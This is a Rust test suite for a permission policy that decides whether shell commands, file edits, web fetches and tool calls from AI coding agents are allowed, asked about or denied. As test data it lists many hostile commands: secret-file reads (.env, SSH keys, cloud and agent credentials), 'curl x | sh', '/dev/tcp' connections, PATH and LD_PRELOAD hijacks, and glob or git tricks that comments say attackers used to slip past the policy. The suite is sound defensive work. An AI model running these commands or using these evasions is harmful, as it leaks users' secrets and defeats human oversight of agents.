//! The policy's verdicts: the rules' meaning, the parts of a command, the built-in
//! set, scopes, and a project's file only once trusted.

use std::path::Path;

use super::*;

fn policy(toml: &str) -> Policy {
    Policy { rules: rules::parse(toml, Path::new("rules.toml"), &Origin::Yours).unwrap(), untrusted: None }
}

fn command(c: &str) -> Action {
    Action { kind: Kind::Command(c.into()), cwd: Some("/p".into()), agent: None, session: None }
}

fn verdict(p: &Policy, c: &str) -> Verdict {
    p.decide(&command(c)).decision
}

/// The verdict on `c` run in the folder `cwd`, which exists.
fn verdict_in(p: &Policy, cwd: &Path, c: &str) -> Verdict {
    p.decide(&Action { kind: Kind::Command(c.into()), cwd: Some(cwd.into()), agent: None, session: None }).decision
}

#[test]
fn a_command_rule_is_a_prefix_of_words() {
    let p = policy("[[allow]]\ncommand = \"cargo test\"\n");
    assert_eq!(verdict(&p, "cargo test"), Verdict::Allow);
    assert_eq!(verdict(&p, "cargo test --release"), Verdict::Allow);
    assert_eq!(verdict(&p, "cargo testify"), Verdict::Ask);
    assert_eq!(verdict(&p, "cargo --config X test"), Verdict::Ask);
    assert_eq!(verdict(&p, "./cargo test"), Verdict::Ask, "a program by path is another program");
    assert_eq!(verdict(&p, "/usr/bin/cargo test"), Verdict::Allow);
    let exact = policy("[[allow]]\ncommand = \"cargo test\"\nexact = true\n");
    assert_eq!(verdict(&exact, "cargo test"), Verdict::Allow);
    assert_eq!(verdict(&exact, "cargo test --release"), Verdict::Ask);
    let star = policy("[[allow]]\ncommand = \"npm run test:*\"\n");
    assert_eq!(verdict(&star, "npm run test:unit"), Verdict::Allow);
    assert_eq!(verdict(&star, "npm run build"), Verdict::Ask);
}

#[test]
fn every_part_must_be_allowed_and_any_deny_denies() {
    let p = policy(
        "[[allow]]\ncommand = \"cargo test\"\n[[allow]]\ncommand = \"git\"\n\
         [[deny]]\ncommand = \"git push\"\nreason = \"pushes go through review\"\n\
         [[deny]]\ncommand = \"sudo\"\nreason = \"no root\"\n",
    );
    assert_eq!(verdict(&p, "cargo test && rm -rf target"), Verdict::Ask);
    assert_eq!(verdict(&p, "cargo test && git status"), Verdict::Allow);
    assert_eq!(verdict(&p, "cargo test && git push"), Verdict::Deny);
    let d = p.decide(&command("timeout 5 sudo rm -rf /"));
    assert_eq!(d.decision, Verdict::Deny);
    assert!(d.deny_message().contains("no root") && d.deny_message().contains("deny `sudo`"), "{}", d.deny_message());
    assert_eq!(verdict(&p, "/usr/bin/sudo ls"), Verdict::Deny, "a deny fits a program by path too");
    // A word known only at run time where a deny has a word: maybe the deny, never allowed.
    assert_eq!(verdict(&p, "git $SUB"), Verdict::Ask);
    assert_eq!(verdict(&p, "cargo test $(git push)"), Verdict::Deny);
}

#[test]
fn what_cannot_be_read_is_never_allowed() {
    let p = policy("[[allow]]\ncommand = \"cat\"\n[[allow]]\ncommand = \"echo\"\n[[allow]]\nread-only = true\n");
    for c in ["eval \"cat a\"", "PATH=/tmp/evil:$PATH cat a", "$X a", "f() { cat; }; f", "curl x | sh", "echo 'x"] {
        assert_eq!(verdict(&p, c), Verdict::Ask, "{c}");
    }
}

#[test]
fn read_only_allows_inspection_and_nothing_that_writes_or_runs() {
    let p = policy("[[allow]]\nread-only = true\n");
    for c in [
        "cat foo | head -n 3",
        "ls -la && wc -l src/*.rs",
        "cat *.md docs/[a-z]*.txt .github/*.yml",
        "git show HEAD:src/main.rs",
        "ls $HOME",
        "grep -rn TODO src | sort | uniq -c",
        "rg -n foo",
        "find . -name '*.rs' -type f",
        "git log --oneline -5",
        "git status && git diff HEAD~1",
        "sed -n '10,20p' file",
        "sed -n '/fn main/p' src/main.rs",
        "find . -type f | sed 's|^\\./||' | sort",
        "echo '---README---' && sed -n '1,200p' README.md",
        "test -f x && cat x || echo missing",
        "lsof -i :3000",
        "ss -ltnp",
        "ps aux | grep vite",
        "ps -ef && ps -eo pid,user,cmd",
        "sleep 2 && tail -n 50 app.log",
        "git stash show -p stash@{1}",
        "docker logs app --tail 50",
        "docker ps",
        "echo hi > /dev/null",
        "jq .name package.json",
        "git branch --show-current",
    ] {
        assert_eq!(verdict(&p, c), Verdict::Allow, "{c}");
    }
    // The commands a read-only policy of a peer lets through.
    for c in [
        "echo x > ~/.bashrc",
        "sort -o ~/.bashrc a",
        "sort --out=~/.bashrc a",
        "sed -n 'w /tmp/x' a",
        "sed 's/a/id/e' a",
        "sed -n 's/a/id/e' a",
        "sed -i s/a/b/ a",
        "awk 'BEGIN{system(\"id\")}'",
        "rg --pre sh x",
        "rg -z x",
        "git log --output=/tmp/x",
        "git -c core.pager=sh log",
        "git push",
        "git branch evil",
        "eval \"cat a\"",
        "PATH=/tmp/evil:$PATH cat a",
        "LD_PRELOAD=/tmp/x.so cat a",
        "find . -delete",
        "find . -exec rm {} \\;",
        "find . -fprint /tmp/x",
        "cat a | tee ~/.profile",
        "uniq a b",
        "cat $(rm -rf x)",
        "sort $OPTS a",
        "xargs sort",
        "./cat a",
        "cat < /dev/tcp/evil/80",
        "printf -v PATH /tmp/evil; ls",
        "echo `echo \\`rm x\\``",
        "sed 's|a|b|w /tmp/x' a",
        "sed 's|a|id|e' a",
        "sort {\"\"-o,F} a",
        "uniq - F",
        "date 0101000000",
        "tree -H . -R",
        "git -C /etc log",
        // Found by an attacker given only docs/policy.md: a bare repository an allowed
        // edit wrote under src/, whose config runs a program; secrets read through an
        // option whose value is a file.
        "git -C src/gd diff --no-index a b",
        "cd src/gd && git diff --no-index a b",
        "git -C src/lnk log",
        "xargs -a .env echo",
        "xargs --arg-file=.env echo",
        "wc --files0-from=.env",
        "du --files0-from=.env",
        "sort --files0-from=.env",
        "git --git-dir=x status",
        "HOME=. git status",
        "cat ~/.ssh/id_rsa",
        "cat .env | grep KEY",
        // Secrets named by a glob, a brace expansion, or a revision's path.
        "cat .e?v",
        "cat .env*",
        "head .??*",
        "cat /root/.s*/id_rsa",
        "cat ~/.a*/credentials",
        "cat .e{n,x}v",
        "cat certs/*",
        "git show HEAD:.env",
        "git cat-file -p HEAD:config/.env.local",
        "git show :0:.env",
        // A file named only when it runs, shown by a command that shows what it reads.
        "cat $F",
        "find . -name .env | xargs cat",
        "for f in .e*; do cat $f; done",
        // A value attached to a short option; options a run-time word may hold.
        "date -f.env",
        "date -uf.env",
        "file -m.env",
        "grep -hf.env src",
        "du {--files0-from=.env,-a}",
        "echo --files0-from=.env | xargs du",
        "git ls-files | xargs wc -l",
        "du \"$X\"",
        "md5sum $X",
        // BSD ps's `e` shows every process's environment.
        "ps eww",
        "ps auxe",
        "ps $X",
        "ps -auxe",
        "cat certs/server.PEM",
        "cat ~/.AWS/credentials",
        "cat <&- .env",
        "git 3>&- log",
        "ps -auxwe",
        // A jq module is a file its program names.
        "jq -n 'import \"../home/.docker/config\" as $c; $c'",
        "jq -n -L ~/.docker 'include \"config\"; .'",
        "test -v 'a[$(touch F)]'",
        "echo x >& $HOME/F",
        "lsof +M",
        "ss -K",
    ] {
        assert_ne!(verdict(&p, c), Verdict::Allow, "{c}");
    }
}

#[test]
fn scopes_narrow_where_a_rule_holds() {
    let p = policy(
        "[[allow]]\ncommand = \"make\"\nproject = \"/p\"\n[[allow]]\ncommand = \"npm\"\nagent = \"codex\"\n\
         [[allow]]\ncommand = \"pnpm\"\nsession = \"s1\"\n",
    );
    let at = |c: &str, cwd: &str, agent: Option<&str>, session: Option<&str>| {
        p.decide(&Action {
            kind: Kind::Command(c.into()),
            cwd: Some(cwd.into()),
            agent: agent.map(Into::into),
            session: session.map(Into::into),
        })
        .decision
    };
    assert_eq!(at("make", "/p/sub", None, None), Verdict::Allow);
    assert_eq!(at("make", "/pq", None, None), Verdict::Ask, "a sibling folder is not under the project");
    assert_eq!(at("npm i", "/x", Some("codex"), None), Verdict::Allow);
    assert_eq!(at("npm i", "/x", Some("claude-code"), None), Verdict::Ask);
    assert_eq!(at("pnpm i", "/x", None, Some("s1")), Verdict::Allow);
    assert_eq!(at("pnpm i", "/x", None, Some("s2")), Verdict::Ask);
}

#[test]
fn files_fetches_and_mcp_tools_have_rules_of_their_own() {
    let home = std::env::var("HOME").unwrap();
    let p = policy(
        "[[allow]]\nedit = \"src\"\n[[deny]]\nread = \"**/.env\"\nreason = \"secrets\"\n[[deny]]\nread = \"~/.ssh\"\n\
         [[allow]]\nfetch = \"*.rust-lang.org\"\n[[allow]]\nmcp = \"github/get_*\"\n[[deny]]\nmcp = \"db\"\n",
    );
    let act = |kind| p.decide(&Action { kind, cwd: Some("/p".into()), agent: None, session: None }).decision;
    assert_eq!(act(Kind::Edit(vec!["/p/src/a/b.rs".into()])), Verdict::Allow);
    assert_eq!(act(Kind::Edit(vec!["src/../../etc/passwd".into()])), Verdict::Ask);
    assert_eq!(act(Kind::Edit(vec!["/p/src/x.rs".into(), "/p/Cargo.toml".into()])), Verdict::Ask);
    assert_eq!(act(Kind::Read("/p/deep/.env".into())), Verdict::Deny);
    assert_eq!(act(Kind::Read(format!("{home}/.ssh/id_ed25519"))), Verdict::Deny);
    assert_eq!(act(Kind::Fetch("https://doc.rust-lang.org/std".into())), Verdict::Allow);
    assert_eq!(act(Kind::Fetch("https://rust-lang.org.evil.com/".into())), Verdict::Ask);
    assert_eq!(act(Kind::Mcp { server: "github".into(), tool: "get_issue".into() }), Verdict::Allow);
    assert_eq!(act(Kind::Mcp { server: "github".into(), tool: "delete_repo".into() }), Verdict::Ask);
    assert_eq!(act(Kind::Mcp { server: "db".into(), tool: "query".into() }), Verdict::Deny);
    // A redirection writes a file: the edit rules judge it.
    let c = policy("[[allow]]\ncommand = \"echo\"\n[[allow]]\nedit = \"out\"\n");
    assert_eq!(verdict(&c, "echo x > out/log.txt"), Verdict::Allow);
    assert_eq!(verdict(&c, "echo x > ~/.bashrc"), Verdict::Ask);
    // After a `cd`, a relative path is another file.
    let anywhere = policy("[[allow]]\ncommand = \"echo\"\n[[allow]]\ncommand = \"cd\"\n[[allow]]\nedit = \"**\"\n");
    assert_eq!(verdict(&anywhere, "echo x > notes.txt"), Verdict::Allow);
    assert_eq!(verdict(&anywhere, "cd ~ && echo x > .bashrc"), Verdict::Ask);
    assert_eq!(verdict(&anywhere, "cd ~ && echo x | tee .bashrc"), Verdict::Ask);
}

#[test]
fn a_bad_entry_is_named() {
    let err = |t: &str| rules::parse(t, Path::new("r.toml"), &Origin::Yours).unwrap_err().to_string();
    assert_eq!(
        err("[[allow]]\ncommand = \"a\"\n[[deny]]\nreason = \"x\"\n"),
        "r.toml: [[deny]] number 1 names no action (command, read-only, read, edit, fetch or mcp)"
    );
    assert!(err("[[allow]]\ncomand = \"a\"\n").contains("comand"), "{}", err("[[allow]]\ncomand = \"a\"\n"));
    assert!(err("[[deny]]\nread-only = true\n").contains("only allows"));
    assert!(err("allow = 3").starts_with("r.toml: "));
}

#[test]
fn a_project_file_applies_only_as_trusted() {
    let config = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let file = project.path().join(trust::PROJECT_FILE);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, "[[allow]]\ncommand = \"make test\"\n").unwrap();
    let sub = project.path().join("src");
    std::fs::create_dir_all(&sub).unwrap();
    let decide = || {
        let p = Policy::load(config.path(), Some(&sub)).unwrap();
        let d = p.decide(&Action {
            kind: Kind::Command("make test".into()),
            cwd: Some(sub.clone()),
            agent: None,
            session: None,
        });
        (d.decision, p.untrusted.map(|(_, t)| t))
    };
    assert_eq!(decide(), (Verdict::Ask, Some(trust::Trust::Untrusted)));
    trust::trust(config.path(), &file).unwrap();
    assert_eq!(decide(), (Verdict::Allow, None));
    std::fs::write(&file, "[[allow]]\ncommand = \"make\"\n").unwrap();
    assert_eq!(decide(), (Verdict::Ask, Some(trust::Trust::Changed)));
}

#[test]
fn wildcards_match_within_a_word() {
    assert!(rules::wildcard("test:*", "test:unit"));
    assert!(rules::wildcard("*", ""));
    assert!(rules::wildcard("a*b*c", "aXbYc"));
    assert!(!rules::wildcard("a*b", "aXbc"));
    assert!(!rules::wildcard("ab", "abc"));
}

#[test]
fn docs_policy_md_holds_the_read_only_table_as_the_code_has_it() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/policy.md");
    let doc = std::fs::read_to_string(path).unwrap();
    let (start, end) = ("<!-- read-only table: start -->\n", "<!-- read-only table: end -->");
    let (head, rest) = doc.split_once(start).expect("the table's start marker");
    let (_, tail) = rest.split_once(end).expect("the table's end marker");
    let want = format!("{head}{start}{}{end}{tail}", known::markdown());
    if std::env::var_os("UPDATE_DOCS").is_some() {
        std::fs::write(path, &want).unwrap();
    }
    assert!(doc == want, "docs/policy.md's table is stale: run `UPDATE_DOCS=1 cargo test --lib policy`");
}

#[test]
fn a_fetch_rule_fits_hosts_as_urls_name_them() {
    let p = policy(
        "[[deny]]\nfetch = \"Evil.ORG\"\n[[deny]]\nfetch = \"bücher.de\"\n[[deny]]\nfetch = \"*.Bad.example\"\n",
    );
    let fetch = |url: &str| {
        let action = Action { kind: Kind::Fetch(url.into()), cwd: None, agent: None, session: None };
        p.decide(&action).decision
    };
    assert_eq!(fetch("https://evil.org/x"), Verdict::Deny);
    assert_eq!(fetch("https://EVIL.org/x"), Verdict::Deny);
    assert_eq!(fetch("https://bücher.de/"), Verdict::Deny);
    assert_eq!(fetch("https://xn--bcher-kva.de/"), Verdict::Deny);
    assert_eq!(fetch("https://www.bad.example/"), Verdict::Deny);
    assert_eq!(fetch("https://good.example/"), Verdict::Ask);
}

#[test]
fn a_secret_read_file_by_file_or_through_a_link_is_the_persons() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    for folder in ["src/deep", "other", "keys", "a", "b", "hidden"] {
        std::fs::create_dir_all(p.join(folder)).unwrap();
    }
    for file in [
        ".env",
        "src/deep/main.rs",
        "other/notes.md",
        "keys/id_ed25519",
        "a/x",
        "b/server.pem",
        "hidden/.env.local",
        "hidden/ok.txt",
    ] {
        std::fs::write(p.join(file), "KEY=1\n").unwrap();
    }
    std::os::unix::fs::symlink(p.join(".env"), p.join("notes")).unwrap();
    std::os::unix::fs::symlink("../.env", p.join("other/link")).unwrap();
    std::os::unix::fs::symlink("../other", p.join("src/L")).unwrap();
    std::os::unix::fs::symlink("../.env", p.join("src/f")).unwrap();
    std::fs::create_dir_all(p.join("neg")).unwrap();
    std::fs::write(p.join("neg/.rgignore"), "!.*\n").unwrap();
    std::fs::write(p.join("neg/.env.local"), "KEY=1\n").unwrap();
    std::fs::write(p.join("hidden/.env"), "KEY=1\n").unwrap();
    let policy = policy("[[allow]]\nread-only = true\n");
    let verdict = |c: &str| verdict_in(&policy, p, c);
    for asked in [
        "grep -r KEY .",
        "grep -r KEY",
        "grep -rn -e KEY",
        "grep --directories=recurse KEY .",
        "grep -R KEY other",
        "rg --hidden KEY",
        "rg -uu KEY",
        "rg KEY keys",
        "rg KEY",
        "grep -r KEY hidden",
        "rg -L KEY other --hidden",
        "git grep KEY",
        "git --no-pager grep --no-index KEY",
        "diff -r a b",
        "cat notes",
        "head -5 other/link",
        // rg's selection overrides hidden names and ignore files; its `.rgignore` too.
        "rg -g '*' KEY hidden",
        "rg --iglob '*' KEY hidden",
        "rg -t sh KEY hidden",
        "rg --type-add 'x:*' -t x KEY hidden",
        "rg KEY neg",
        // diff reads the files of a folder without -r, through links.
        "diff -N hidden a",
        "diff -N other a",
        "git diff --no-index src hidden",
        "timeout 5 git diff --no-index b src",
        // bash's cd takes `..` out by name: `src/L/..` is `src`, where `f` is `.env`.
        "cd src/L/.. && cat f",
        // A link named in an option's value; a file of more words; a jq program from
        // a file, which may import any module; other processes' environments.
        "date --file=notes",
        "date -fnotes",
        "diff --from-file=notes a/x",
        "grep -fnotes -v zzz a/x",
        "strings @.env",
        "strings -f @notes",
        "jq -n -f prog.jq",
        "jq -n --from-file prog.jq",
        "cat /proc/1/environ",
        "strings /proc/*/environ",
        "cat ~/.claude/.credentials.json",
        // A glob is judged by what bash finds for it: a link to a secret among them.
        "cat n?tes",
        "cat [n]otes",
        "jq -n --rawfile a n?tes '$a'",
        "grep -R KEY ?ther",
        "head ot*/l?nk",
        "cat \"n\"?tes",
        // sort's temporary files in a folder named.
        "sort -S 1 -T /tmp README",
        "sort --temporary-directory=. a/x",
        // A name looked up in DNS reaches the network.
        "hostname -A",
        "hostname --fqdn",
    ] {
        assert_eq!(verdict(asked), Verdict::Ask, "{asked}");
    }
    for allowed in [
        "grep -rn KEY src",
        "grep -r KEY other",
        "rg KEY hidden",
        "rg -n KEY src other",
        "grep KEY other/notes.md",
        "diff a/x src/deep/main.rs",
        "strings a/x",
        "hostname -s",
        "cat src/deep/*.rs",
        "grep -n KEY ?/x",
    ] {
        assert_eq!(verdict(allowed), Verdict::Allow, "{allowed}");
    }
}

#[test]
fn after_a_literal_cd_paths_are_found_from_every_folder_the_command_may_be_in() {
    let p = policy(
        "[[allow]]\nread-only = true\n[[deny]]\nread = \"/p/private\"\nreason = \"not yours\"\n\
         [[allow]]\nedit = \"/p/src/**\"\n",
    );
    for allowed in
        ["cd src && cat a", "cd /p && git status", "cd /p/ && git log -3", "cd $D && ls", "cd src && echo x > /p/src/y"]
    {
        assert_eq!(verdict(&p, allowed), Verdict::Allow, "{allowed}");
    }
    assert_eq!(verdict(&p, "cd /p/sub && cat ../private/x"), Verdict::Deny);
    assert_eq!(verdict(&p, "cd /p; cd sub; cat ../private/x"), Verdict::Deny);
    assert_eq!(verdict(&p, "cd .. && cat p/private/x"), Verdict::Deny);
    for asked in [
        "cd ~/.config && cat gh/hosts.yml",
        "cd ~/.aws && cat credentials",
        "cd ~; cd .ssh; head id_ed25519",
        "cd src && git status",
        "cd /p/src/gd && git diff",
        "cd $D && cat README.md",
        "cd a; cd b; cd c; cd d; cd e; cat x",
        "cd src && echo x > y",
    ] {
        assert_eq!(verdict(&p, asked), Verdict::Ask, "{asked}");
    }
}

#[test]
fn git_runs_after_a_cd_only_where_it_started() {
    let dir = tempfile::tempdir().unwrap();
    let (repo, bare) = (dir.path().join("repo"), dir.path().join("repo/src/gd"));
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    std::fs::write(repo.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(&bare).unwrap();
    std::fs::write(bare.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let p = policy("[[allow]]\nread-only = true\n");
    let verdict = |c: &str| verdict_in(&p, dir.path(), c);
    // Another repository's configuration may name a program to run.
    assert_eq!(verdict("cd repo && git status"), Verdict::Ask);
    assert_eq!(verdict(&format!("cd {} && git log -3", repo.display())), Verdict::Ask);
    assert_eq!(verdict(&format!("cd {} && git log -3", dir.path().display())), Verdict::Allow);
    assert_eq!(verdict("cd repo/src/gd && git diff"), Verdict::Ask, "a bare repository an edit may have written");
    assert_eq!(verdict("cd repo; cd src/gd; git diff"), Verdict::Ask);
    assert_eq!(verdict("cd nowhere && git status"), Verdict::Ask);
}

#[test]
fn a_repository_that_tracks_a_secret_shows_only_names_unasked() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git").args(args).current_dir(p).output().unwrap().status.success();
        assert!(ok, "git {args:?}");
    };
    std::fs::write(p.join("main.rs"), "fn main() {}\n").unwrap();
    git(&["init", "-q"]);
    git(&["add", "main.rs"]);
    git(&["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one"]);
    let policy = policy("[[allow]]\nread-only = true\n");
    let verdict = |c: &str| verdict_in(&policy, p, c);
    let shows =
        ["git show", "git diff", "git log -p", "git log --patch -3", "git cat-file -p HEAD", "git blame main.rs"];
    for command in shows {
        assert_eq!(verdict(command), Verdict::Allow, "nothing secret is tracked: {command}");
    }
    std::fs::write(p.join(".env"), "KEY=1\n").unwrap();
    git(&["add", ".env"]);
    git(&["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "two"]);
    for command in shows {
        assert_eq!(verdict(command), Verdict::Ask, "{command}");
    }
    for command in ["git status", "git log --oneline -5", "git ls-files", "git branch -a", "git rev-parse HEAD"] {
        assert_eq!(verdict(command), Verdict::Allow, "{command}");
    }
}

#[test]
fn grep_s_pattern_is_no_file() {
    let p = policy("[[allow]]\nread-only = true\n");
    for allowed in
        ["git status --short | grep .env", "grep -n '.env' .gitignore", "rg -n id_rsa src", "grep -A 3 -- .env x"]
    {
        assert_eq!(verdict(&p, allowed), Verdict::Allow, "{allowed}");
    }
    for asked in ["grep KEY .env", "grep -e x .env", "rg -f .env src", "grep -n x -- .env"] {
        assert_eq!(verdict(&p, asked), Verdict::Ask, "{asked}");
    }
}

#[test]
fn a_fifth_attack_from_the_docs_alone_is_closed() {
    let p = policy("[[allow]]\nread-only = true\n[[allow]]\ncommand = \"cargo test\"\n");
    for command in [
        // Bracket classes name secrets as surely as letters do.
        "cat .e[[:alpha:]]v",
        "cat .[[=e=]]nv",
        "cat ~/.aw[[:alpha:]]/credentials",
        "cat [[.i.]]d_rsa",
        "cat server.[[:lower:]]ey",
        // A secret read as patterns, or hashed against a guess.
        "du -X .env .",
        "du --exclude-from=.env .",
        "md5sum -c - <<<'567ff168ae9829cf2589fb90a8f008c0  .env'",
        "sha256sum --check sums",
        // nohup writes nohup.out where its output is a terminal.
        "nohup cat README.md",
        // A command the person allowed, given a secret or another program to run.
        "cargo test --config .env",
        "cargo test --config 'build.rustc-wrapper=\"/usr/bin/touch\"'",
        "cargo test --config=build.rustc-wrapper=x",
    ] {
        assert_eq!(verdict(&p, command), Verdict::Ask, "{command}");
    }
    assert_eq!(verdict(&p, "cargo test --release -p app"), Verdict::Allow);
    assert_eq!(verdict(&p, "md5sum README.md"), Verdict::Allow);
}
